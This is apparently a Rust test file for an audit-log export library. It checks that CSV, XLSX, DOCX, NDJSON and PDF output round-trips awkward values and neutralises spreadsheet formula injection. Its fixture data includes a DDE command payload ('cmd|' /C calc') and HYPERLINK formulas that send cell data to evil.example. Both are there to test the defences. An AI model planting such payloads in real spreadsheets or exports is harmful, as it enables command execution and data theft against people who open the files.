//! Every format is read back by an independent reader: `calamine` for
//! XLSX, the `csv` crate's reader for CSV, an XML parser over the DOCX's document part, serde
//! for NDJSON, a text extractor for PDF. Row counts match, every value round-trips, XLSX dates
//! are real dates, and no cell a spreadsheet opens would run as a formula.

use std::{
    io::{Cursor, Read, Write},
    sync::{Arc, Mutex},
};

use jiff::{Timestamp, tz::TimeZone};
use trail_core::{
    TenantId,
    event::{Client, NewEvent, StoredEvent},
};
use trail_export::{
    Cell, Format, Meta, RowRenderer, export, export_rendered,
    safety::is_risky,
    views::{View, ViewKind},
};

/// A `Write` the test can read after the writer is gone.
#[derive(Clone, Default)]
struct Shared(Arc<Mutex<Vec<u8>>>);

impl Write for Shared {
    fn write(&mut self, buf: &[u8]) -> std::io::Result<usize> {
        self.0.lock().unwrap().extend_from_slice(buf);
        Ok(buf.len())
    }
    fn flush(&mut self) -> std::io::Result<()> {
        Ok(())
    }
}

fn tz() -> TimeZone {
    TimeZone::get("Asia/Kolkata").unwrap()
}

fn meta() -> Meta {
    Meta {
        title: "Activity log".into(),
        tenant: "Acme (acme)".into(),
        filters: vec!["range: last_30_days".into()],
        generated_at: Timestamp::from_second(1_764_000_000).unwrap().to_zoned(tz()),
    }
}

const RISKY_STARTS: [&str; 7] = ["=", "+", "-", "@", "\t", "\r", "\n"];

/// Values that break naive writers, then values that start like formulas.
fn awkward_values() -> Vec<String> {
    let mut v: Vec<String> = vec![
        "plain".into(),
        "comma, inside".into(),
        "\"quoted\" and \"\"doubled\"\"".into(),
        "line one\nline two\r\nline three".into(),
        "emoji 🎉🔐 and ZWJ 👩‍💻".into(),
        "עברית right-to-left, العربية".into(),
        "Ωμέγα Привет Łódź straße".into(),
        "x".repeat(8 * 1024),
        "<b>not markup</b> & ampersand".into(),
        " leading and trailing spaces ".into(),
        "semi;colon and comma,".into(),
        // A formula after a separator, live in a spreadsheet that splits at `;` or `,`.
        "x;=1+cmd|' /C calc'!A0".into(),
        "a,@SUM(1);-2".into(),
    ];
    for start in RISKY_STARTS {
        v.push(format!("{start}HYPERLINK(\"http://evil.example/?\"&A1,\"click\")"));
        v.push(format!("{start}1+1"));
    }
    v
}

fn events() -> Vec<StoredEvent> {
    let received: Timestamp = "2026-11-20T10:00:00Z".parse().unwrap();
    awkward_values()
        .into_iter()
        .enumerate()
        .map(|(i, s)| {
            // Names are at most 256 characters; remarks take the long value whole.
            let short: String = s.chars().take(120).collect();
            let json = serde_json::json!({
                "action": "document.signed",
                "occurred_at": format!("2026-11-{:02}T{:02}:15:30.250Z", 1 + i % 19, i % 24),
                "actor": {"id": format!("u_{i}"), "name": short, "email": format!("user{i}@acme.example")},
                "targets": [{"type": "document", "id": format!("doc_{i}"), "name": short}],
                "description": s,
                "context": {"ip": "203.0.113.7", "user_agent": short, "location": {"country": "IN", "region": short, "city": "Bengaluru"}},
            });
            let mut body = NewEvent::from_json(&json.to_string(), received).unwrap().into_body(received);
            // The user agent's parsed names, as enrichment would freeze them.
            body.context.as_mut().unwrap().client =
                Some(Client { os: Some(s.clone()), browser: Some(s.clone()), device: None });
            StoredEvent { tenant: TenantId::parse("acme").unwrap(), seq: i as u64 + 1, body }
        })
        .collect()
}

fn run(format: Format, view: &View, events: &[StoredEvent]) -> Vec<u8> {
    let out = Shared::default();
    let rows = export::<_, _, _, trail_export::ExportError>(
        format,
        view,
        &meta(),
        events.iter().cloned().map(Ok),
        out.clone(),
        |_| {},
    )
    .unwrap();
    assert_eq!(rows, events.len() as u64);
    out.0.lock().unwrap().clone()
}

/// The expected cells of each event, as text the way CSV/DOCX show them.
fn expected<'a>(view: &View, events: &'a [StoredEvent]) -> Vec<Vec<Cell<'a>>> {
    events
        .iter()
        .map(|e| {
            let mut cells = Vec::new();
            view.cells(e, &mut cells);
            cells
        })
        .collect()
}

#[test]
fn csv_round_trips_every_value_and_defuses_formulas() {
    let view = View::new(ViewKind::Activity, tz());
    let events = events();
    let bytes = run(Format::Csv, &view, &events);
    let mut reader = csv::ReaderBuilder::new().has_headers(true).from_reader(&bytes[..]);
    let header: Vec<String> = reader.headers().unwrap().iter().map(String::from).collect();
    assert_eq!(
        header.join(","),
        "Seq,Date,User,Email,Report Type,Category,Remarks,Targets,IP Address,Country,Region,City,OS,Browser,Outcome"
    );
    let rows: Vec<csv::StringRecord> = reader.records().map(Result::unwrap).collect();
    assert_eq!(rows.len(), events.len());
    let mut defused = 0;
    for (row, cells) in rows.iter().zip(expected(&view, &events)) {
        assert_eq!(row.len(), cells.len());
        for (field, cell) in row.iter().zip(&cells) {
            assert!(!is_risky(field), "a CSV field a spreadsheet would run: {field:?}");
            let text = cell.display();
            if is_risky(&text) {
                assert_eq!(undefused(field), text);
                defused += 1;
            } else {
                assert_eq!(field, text);
            }
        }
    }
    // Every risky start appears in names, remarks, region, OS and browser.
    assert!(defused >= RISKY_STARTS.len() * 2 * 5, "only {defused} cells were defused");
    assert_eq!(&rows[0][1], "2026-11-01 05:45:30 +05:30", "dates carry the tenant's offset");
}

/// A CSV field without the `'` written before each piece that starts like a formula.
fn undefused(field: &str) -> String {
    let mut out = String::new();
    let mut piece_start = true;
    let mut chars = field.chars().peekable();
    while let Some(c) = chars.next() {
        let formula_next = chars.peek().is_some_and(|n| "=+-@\t\r\n".contains(*n));
        if !(piece_start && c == '\'' && formula_next) {
            out.push(c);
        }
        piece_start = c == ',' || c == ';';
    }
    out
}

/// Splits a CSV line as a spreadsheet whose list separator is `;` does: at every `;`, a quote
/// honoured only at the start of a field.
fn split_at_semicolons(line: &str) -> Vec<String> {
    let mut reader =
        csv::ReaderBuilder::new().delimiter(b';').has_headers(false).flexible(true).from_reader(line.as_bytes());
    reader.records().flat_map(|r| r.unwrap().iter().map(String::from).collect::<Vec<_>>()).collect()
}

/// Regression: in a `;`-separator locale `x;=1+cmd|...` opened as a live formula. Read every
/// line of the file as such a spreadsheet reads it: no piece starts like a formula.
#[test]
fn csv_has_no_formula_for_a_semicolon_separator_either() {
    let view = View::new(ViewKind::Activity, tz());
    let bytes = run(Format::Csv, &view, &events());
    let text = String::from_utf8(bytes).unwrap();
    let mut pieces = 0;
    for line in text.split('\n') {
        for piece in split_at_semicolons(line) {
            assert!(!is_risky(piece.trim_start_matches('"')), "a piece a spreadsheet would run: {piece:?}");
            pieces += 1;
        }
    }
    assert!(text.contains("\"x;'=1+cmd|' /C calc'!A0\""), "quoted, the piece defused");
    assert!(pieces > text.lines().count());
}

#[test]
fn xlsx_round_trips_with_real_dates_and_no_formulas() {
    use calamine::{Data, Reader, Xlsx};
    let view = View::new(ViewKind::Activity, tz());
    let events = events();
    let bytes = run(Format::Xlsx, &view, &events);
    let mut book: Xlsx<_> = calamine::open_workbook_from_rs(Cursor::new(bytes.clone())).unwrap();
    assert_eq!(book.sheet_names(), vec!["Events 1".to_string()]);
    let range = book.worksheet_range("Events 1").unwrap();
    assert_eq!(range.height(), events.len() + 1);
    let formulas = book.worksheet_formula("Events 1").unwrap();
    assert!(formulas.used_cells().all(|(_, _, f)| f.is_empty()), "no cell holds a formula");
    let header: Vec<String> = range.rows().next().unwrap().iter().map(|c| c.to_string()).collect();
    assert_eq!(header[0], "Seq");
    assert_eq!(header[14], "Outcome");
    for (row, (cells, e)) in range.rows().skip(1).zip(expected(&view, &events).iter().zip(&events)) {
        for (got, want) in row.iter().zip(cells) {
            match (got, want) {
                (Data::Empty, Cell::Empty) => {}
                (Data::String(s), Cell::Text(t)) => assert_eq!(s, t),
                (Data::Float(f), Cell::Int(n)) => assert_eq!(*f, *n as f64),
                (Data::DateTime(d), Cell::Date(z)) => {
                    // Excel's serial date: days since 1899-12-30, local time, no offset.
                    let local = z.datetime();
                    assert_eq!(local, e.body.occurred_at.to_zoned(tz()).datetime());
                    let epoch = jiff::civil::date(1899, 12, 30).at(0, 0, 0, 0);
                    let want = local.duration_since(epoch).as_secs_f64() / 86_400.0;
                    assert!(d.is_datetime());
                    assert!((d.as_f64() - want).abs() < 0.001 / 86_400.0, "{} vs {want}", d.as_f64());
                }
                other => panic!("cell mismatch: {other:?}"),
            }
        }
    }
    // Risky text is a plain string cell (inline or shared), quote-prefixed, never a formula.
    let sheet = zip_part(&bytes, "xl/worksheets/sheet1.xml");
    assert!(!sheet.contains("<f>") && !sheet.contains("t=\"str\""));
    assert!(sheet.contains("state=\"frozen\""), "the header is frozen");
    assert!(sheet.contains("<autoFilter ref=\"A1:O"), "an autofilter covers the table");
    assert!(zip_part(&bytes, "xl/styles.xml").contains("quotePrefix=\"1\""));
}

#[test]
fn docx_is_a_word_table_with_every_value() {
    let view = View::new(ViewKind::Activity, tz());
    let events = events();
    let bytes = run(Format::Docx, &view, &events);
    let xml = zip_part(&bytes, "word/document.xml");
    let doc = roxmltree::Document::parse(&xml).expect("document.xml is well-formed XML");
    let w = "http://schemas.openxmlformats.org/wordprocessingml/2006/main";
    let tables: Vec<_> = doc.descendants().filter(|n| n.has_tag_name((w, "tbl"))).collect();
    assert_eq!(tables.len(), 1);
    let rows: Vec<_> = tables[0].children().filter(|n| n.has_tag_name((w, "tr"))).collect();
    assert_eq!(rows.len(), events.len() + 1);
    assert!(rows[0].descendants().any(|n| n.has_tag_name((w, "tblHeader"))), "the header row repeats");
    let text_of = |cell: roxmltree::Node| {
        let mut s = String::new();
        for n in cell.descendants() {
            if n.has_tag_name((w, "t")) {
                s.push_str(n.text().unwrap_or(""));
            } else if n.has_tag_name((w, "br")) {
                s.push('\n');
            } else if n.has_tag_name((w, "tab")) {
                s.push('\t');
            }
        }
        s
    };
    let header: Vec<String> = rows[0].children().filter(|n| n.has_tag_name((w, "tc"))).map(text_of).collect();
    assert_eq!(header.len(), 15);
    assert_eq!(header[4], "Report Type");
    for (row, cells) in rows[1..].iter().zip(expected(&view, &events)) {
        let got: Vec<String> = row.children().filter(|n| n.has_tag_name((w, "tc"))).map(text_of).collect();
        let want: Vec<String> = cells
            .iter()
            // Word has line breaks, not carriage returns: CR LF and a lone CR are each one break.
            .map(|c| c.display().replace("\r\n", "\n").replace('\r', "\n"))
            .collect();
        assert_eq!(got, want);
    }
    let body: String = doc.descendants().filter(|n| n.has_tag_name((w, "t"))).filter_map(|n| n.text()).collect();
    assert!(
        body.contains("Acme (acme)") && body.contains("range: last_30_days"),
        "title block names tenant and filters"
    );
}

/// What an export of rows rendered one by one (by the store, on its threads) writes.
fn run_rendered(format: Format, view: &View, events: &[StoredEvent]) -> Vec<u8> {
    let renderer = RowRenderer::new(format, view).expect("CSV and NDJSON rows stand alone");
    // Rows rendered in pieces of three, in reverse order of rendering, as threads would.
    let mut pieces: Vec<(Vec<u8>, u64)> = events
        .chunks(3)
        .rev()
        .map(|chunk| {
            let mut bytes = Vec::new();
            chunk.iter().for_each(|e| renderer.render(e, &mut bytes));
            (bytes, chunk.len() as u64)
        })
        .collect();
    pieces.reverse();
    let pages = pieces.chunks(2).map(|p| Ok(p.to_vec()));
    let mut out = Vec::new();
    let mut counts = Vec::new();
    let rows =
        export_rendered::<_, _, trail_export::ExportError>(&renderer, pages, &mut out, |n| counts.push(n)).unwrap();
    assert_eq!(rows, events.len() as u64);
    // Progress after every piece: a download cut short is recorded to within a piece.
    let expected: Vec<u64> = (1..=pieces.len()).map(|i| pieces[..i].iter().map(|(_, n)| n).sum()).collect();
    assert_eq!(counts, expected);
    out
}

#[test]
fn rows_rendered_apart_make_the_file_the_writer_makes() {
    let events = events();
    for kind in ViewKind::ALL {
        let view = View::new(kind, tz());
        for format in [Format::Csv, Format::Ndjson] {
            if kind.is_report() {
                assert!(RowRenderer::new(format, &view).is_none(), "report rows are not events");
                continue;
            }
            let apart = run_rendered(format, &view, &events);
            assert_same_bytes(&apart, &run(format, &view, &events), &format!("{format} of the {kind:?} view"));
        }
        for format in [Format::Xlsx, Format::Pdf, Format::Docx] {
            assert!(RowRenderer::new(format, &view).is_none(), "{format} files are more than their rows");
        }
    }
}

#[test]
fn csv_bytes_are_the_csv_crates() {
    let view = View::new(ViewKind::Activity, tz());
    let events = events();
    let mut theirs = Vec::new();
    csv_crate_record(view.columns().iter().map(|c| c.title.to_owned()), &mut theirs);
    for cells in expected(&view, &events) {
        let fields = cells.iter().map(|c| match c {
            Cell::Text(s) => trail_export::safety::neutralise(s).into_owned(),
            other => other.display().into_owned(),
        });
        csv_crate_record(fields, &mut theirs);
    }
    assert_same_bytes(&run(Format::Csv, &view, &events), &theirs, "CSV beside the csv crate's");
}

/// A record as the csv crate writes it, each field quoted as the crate would quote it with `,`
/// or `;` as the delimiter (Trail quotes both separators, for spreadsheets of either locale).
fn csv_crate_record(fields: impl Iterator<Item = String>, out: &mut Vec<u8>) {
    let mut encoded = Vec::new();
    for field in fields {
        if field.is_empty() {
            encoded.push(Vec::new()); // a record of one empty field is a special case below
            continue;
        }
        let quoted_with = |delimiter: u8| {
            let mut w = csv::WriterBuilder::new().delimiter(delimiter).from_writer(Vec::new());
            w.write_record([&field, "x"]).unwrap();
            w.into_inner().unwrap().first() == Some(&b'"')
        };
        let style =
            if quoted_with(b',') || quoted_with(b';') { csv::QuoteStyle::Always } else { csv::QuoteStyle::Necessary };
        let mut w = csv::WriterBuilder::new().quote_style(style).from_writer(Vec::new());
        // A record of the field alone (a lone field's closing quote is written only when the
        // record ends), without its line end.
        w.write_record([&field]).unwrap();
        let mut one = w.into_inner().unwrap();
        one.pop();
        encoded.push(one);
    }
    out.extend_from_slice(&encoded.join(&b','));
    out.push(b'\n');
}

/// Two files' bytes are the same (on a difference, says where rather than printing both).
fn assert_same_bytes(ours: &[u8], theirs: &[u8], what: &str) {
    let at = ours.iter().zip(theirs).position(|(a, b)| a != b).unwrap_or(ours.len().min(theirs.len()));
    let around = |b: &[u8]| String::from_utf8_lossy(&b[at.saturating_sub(40)..(at + 40).min(b.len())]).into_owned();
    assert!(ours == theirs, "{what}: they differ at byte {at}: {:?} vs {:?}", around(ours), around(theirs));
}

#[test]
fn ndjson_holds_each_stored_event_whole() {
    let view = View::new(ViewKind::Activity, tz());
    let events = events();
    let bytes = run(Format::Ndjson, &view, &events);
    let lines: Vec<&str> = std::str::from_utf8(&bytes).unwrap().lines().collect();
    assert_eq!(lines.len(), events.len());
    for (line, e) in lines.iter().zip(&events) {
        let got: serde_json::Value = serde_json::from_str(line).unwrap();
        assert_eq!(got, serde_json::to_value(e).unwrap());
    }
}

#[test]
fn paged_formats_refuse_more_rows_than_their_limit_before_writing() {
    let view = View::new(ViewKind::Activity, tz());
    let one = events().remove(0);
    for format in [Format::Pdf, Format::Docx] {
        let out = Shared::default();
        let limit = format.row_limit().unwrap();
        let many = (0..=limit).map(|i| {
            let mut e = one.clone();
            e.seq = i + 1;
            Ok::<_, trail_export::ExportError>(e)
        });
        let err = export(format, &view, &meta(), many, out.clone(), |_| {}).unwrap_err();
        assert!(err.to_string().contains("at most 100000 rows"), "{err}");
        assert!(err.to_string().contains("CSV or XLSX"), "{err}");
        assert!(out.0.lock().unwrap().is_empty(), "nothing written");
    }
}

#[test]
fn pdf_text_reads_back_with_title_block_repeated_header_and_page_numbers() {
    let view = View::new(ViewKind::Activity, tz());
    let mut events = events();
    // Enough plain rows for several pages.
    let filler = events[0].clone();
    for i in 0..300 {
        let mut e = filler.clone();
        e.seq = 1000 + i;
        e.body.description = Some(format!("filler{i}"));
        events.push(e);
    }
    let bytes = run(Format::Pdf, &view, &events);
    assert!(bytes.starts_with(b"%PDF-"));
    let pages = pdf_extract::extract_text_from_mem_by_pages(&bytes).expect("an independent reader opens it");
    assert!(pages.len() >= 3, "{} pages", pages.len());
    let n = pages.len();
    for (i, page) in pages.iter().enumerate() {
        assert!(page.contains(&format!("Page {} of {n}", i + 1)), "page {} numbered", i + 1);
        for h in ["Seq", "Date", "Report", "Remarks", "Outcome"] {
            assert!(page.contains(h), "header {h:?} on page {}", i + 1);
        }
    }
    let all = pages.join("\n");
    // (The extractor runs wrapped lines together, so each word is checked on its own.)
    for w in [
        "Activity log",
        "Acme (acme)",
        "range: last_30_days",
        "Generated:",
        "Ωμέγα",
        "Привет",
        "Łódź",
        "straße",
        "filler299",
        "Document",
        "signed",
        "+05:30",
    ] {
        assert!(all.contains(w), "{w:?} is in the PDF text");
    }
    // Every event's seq is there.
    for e in &events {
        assert!(all.contains(&e.seq.to_string()));
    }
    // Fonts are embedded.
    let raw = String::from_utf8_lossy(&bytes);
    assert!(raw.contains("/FontFile2") || raw.contains("/FontFile3"), "the font is embedded");
}

fn zip_part(bytes: &[u8], name: &str) -> String {
    let mut zip = zip::ZipArchive::new(Cursor::new(bytes)).unwrap();
    let mut s = String::new();
    zip.by_name(name).unwrap().read_to_string(&mut s).unwrap();
    s
}
